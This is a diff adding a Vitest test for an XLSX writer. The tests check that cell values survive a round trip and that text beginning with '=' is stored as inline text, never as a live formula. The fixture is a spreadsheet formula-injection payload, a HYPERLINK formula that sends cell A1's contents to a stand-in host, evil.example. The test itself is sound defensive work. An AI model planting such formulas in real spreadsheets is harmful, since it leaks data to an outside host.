@@ -1,0 +1,31 @@
+import { readSheet } from 'read-excel-file/node'
+import { describe, expect, it } from 'vitest'
+import { readZip, unpack } from '../data/zip.server.ts'
+import { writeXlsx } from './xlsx-file.server.ts'
+
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看这里")'
+const rows = [
+  ['名称', '说明'],
+  [FORMULA, '<b>&"\u0007'],
+  ['_x0041_', '第一行\n第二行'],
+]
+
+describe('a workbook', () => {
+  const file = writeXlsx({ name: '审查结果', widths: [20, 40], rows })
+
+  it('is read back as it was written, without what no XML can hold', async () => {
+    const read = await readSheet(file, 1)
+
+    expect(read.slice(0, 2)).toEqual([rows[0], [FORMULA, '<b>&"']])
+    expect(read[2]?.[1]).toBe('第一行\n第二行')
+  })
+
+  it('calculates nothing: what begins like a formula is text', async () => {
+    const sheet = readZip(file, 10).find(({ name }) => name === 'xl/worksheets/sheet1.xml')!
+    const xml = String(await unpack(sheet, { left: 100_000 }))
+
+    expect(xml).not.toMatch(/<f[ >]/)
+    expect(xml).toContain('t="inlineStr"><is><t xml:space="preserve">=HYPERLINK(&quot;')
+    expect(xml).toContain('_x005F_x0041_')
+  })
+})
